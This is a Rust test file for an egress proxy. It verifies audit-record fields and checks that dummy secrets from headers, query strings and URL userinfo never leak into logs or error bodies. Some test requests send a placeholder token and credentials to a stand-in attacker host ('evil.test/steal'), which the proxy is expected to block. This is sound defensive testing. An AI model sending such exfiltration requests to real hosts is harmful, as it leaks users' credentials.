//! The audit log's contents, and the absence of every sensitive item from the audit log, the
//! operator log lines and the error bodies: query strings, `Authorization`,
//! `Proxy-Authorization`, `Cookie`, `Set-Cookie`, `X-Api-Key`.

mod proxy_support;

use proxy_support::*;
use tollgate::proxy::Proxy;

/// The operator log at DEBUG, captured for the whole test binary.
fn operator_log() -> &'static Captured {
    proxy_support::operator_log(tracing::Level::DEBUG)
}

const SECRETS: [&str; 7] = [
    "QUERYSECRET1",
    "AUTHSECRET2",
    "PROXYAUTHSECRET3",
    "COOKIESECRET4",
    "SETCOOKIESECRET5",
    "APIKEYSECRET6",
    "USERINFOSECRET7",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_records_carry_every_field_and_no_secret() {
    let log = operator_log();
    let up = upstream(|seen, n| {
        if n == 0 {
            return status(503, "retry me");
        }
        let mut response = ok(&format!("echo {}", seen.body.len()));
        response
            .headers_mut()
            .insert("set-cookie", "session=SETCOOKIESECRET5".parse().unwrap());
        response
    })
    .await;
    let proxy = start(
        Proxy::builder(policy_with(&format!(
            "{FAST_RETRY}limits:\n  max_requests: 3\n"
        )))
        .transport(up.remap()),
    );
    let secret_headers = [
        "-H",
        "Authorization: Bearer AUTHSECRET2",
        "-H",
        "Proxy-Authorization: Basic PROXYAUTHSECRET3",
        "-H",
        "Cookie: id=COOKIESECRET4",
        "-H",
        "X-Api-Key: APIKEYSECRET6",
    ];
    let mut args = secret_headers.to_vec();
    args.extend([
        "--data-binary",
        "twelve bytes",
        "http://api.test/v1/items?token=QUERYSECRET1",
    ]);
    let got = curl(proxy.addr, &args).await;
    assert_eq!((got.status, got.body_text().as_str()), (200, "echo 12"));
    // The same secrets on a refusal (unlisted host), the last budgeted request, and a
    // refusal by the budget.
    for (url, want) in [
        ("http://evil.test/steal?token=QUERYSECRET1", 403),
        ("http://api.test/v1/items?token=QUERYSECRET1", 200),
        ("http://api.test/again?token=QUERYSECRET1", 429),
    ] {
        let mut args = secret_headers.to_vec();
        args.push(url);
        let got = curl(proxy.addr, &args).await;
        assert_eq!(got.status, want, "{got:?}");
        for secret in SECRETS {
            assert!(
                !got.body_text().contains(secret),
                "error body leaks {secret}"
            );
        }
    }
    let answer = raw(
        proxy.addr,
        b"GET http://user:USERINFOSECRET7@evil.test/x?QUERYSECRET1 HTTP/1.1\r\nConnection: close\r\n\r\n",
    )
    .await;
    assert_eq!(status_of(&answer), 403, "{answer}");
    assert!(!answer.contains("USERINFOSECRET7"));
    let stats = proxy.handle.shutdown().await;

    let audit = proxy.audit.text();
    let operator = log.text();
    for secret in SECRETS {
        assert!(!audit.contains(secret), "audit leaks {secret}:\n{audit}");
        assert!(
            !operator.contains(secret),
            "operator log leaks {secret}:\n{operator}"
        );
    }
    let records = proxy.audit.records();
    assert_eq!(records.len(), 6, "{audit}");
    let first = &records[0];
    for field in [
        "time",
        "execution",
        "team",
        "type",
        "method",
        "scheme",
        "host",
        "port",
        "path",
        "address",
        "decision",
        "reason",
        "rule",
        "status",
        "attempt",
        "duration_ms",
        "bytes_up",
        "bytes_down",
        "outcome",
        "error",
    ] {
        assert!(first.get(field).is_some(), "missing {field}: {first}");
    }
    assert_eq!(first["execution"], "exec-test");
    assert_eq!(first["team"], "acme");
    assert_eq!(first["method"], "POST");
    assert_eq!(
        (first["scheme"].as_str(), first["host"].as_str()),
        (Some("http"), Some("api.test"))
    );
    assert_eq!(
        (first["port"].as_u64(), first["path"].as_str()),
        (Some(80), Some("/v1/items"))
    );
    assert_eq!(first["address"], format!("{PINNED}:80"));
    assert_eq!(
        (first["decision"].as_str(), first["reason"].as_str()),
        (Some("allow"), Some("allowed"))
    );
    assert_eq!(first["rule"], "network.allow[0]");
    assert_eq!(
        (first["status"].as_u64(), first["attempt"].as_u64()),
        (Some(503), Some(1))
    );
    assert_eq!(first["outcome"], "retrying");
    let second = &records[1];
    assert_eq!(
        (second["status"].as_u64(), second["attempt"].as_u64()),
        (Some(200), Some(2))
    );
    assert_eq!(
        (second["bytes_up"].as_u64(), second["bytes_down"].as_u64()),
        (Some(12), Some(7))
    );
    assert_eq!(second["outcome"], "complete");
    assert!(second["time"].as_str().unwrap().ends_with('Z'));
    let denied = &records[2];
    assert_eq!(
        (denied["decision"].as_str(), denied["reason"].as_str()),
        (Some("deny"), Some("host_not_allowed"))
    );
    assert_eq!(
        (denied["error"].as_str(), denied["status"].as_u64()),
        (Some("policy_denied"), Some(403))
    );
    assert!(denied["address"].is_null());
    assert_eq!(records[4]["error"], "request_limit_exceeded");
    assert_eq!(records[5]["host"], "evil.test");

    assert!(
        operator.contains("POST http://api.test/v1/items -> 503 retrying ("),
        "{operator}"
    );
    assert!(operator.contains("retrying (attempt 2/3) in"), "{operator}");
    assert!(
        operator.contains("POST http://api.test/v1/items -> 200 complete ("),
        "{operator}"
    );
    assert_eq!((stats.requests, stats.denied, stats.retried), (3, 3, 1));
    assert_eq!((stats.bytes_up, stats.bytes_down), (12, 13));
    assert_eq!(stats.destinations.len(), 1);
    assert_eq!(stats.destinations[0].destination, "http://api.test");
    assert_eq!(stats.destinations[0].requests, 3);
}
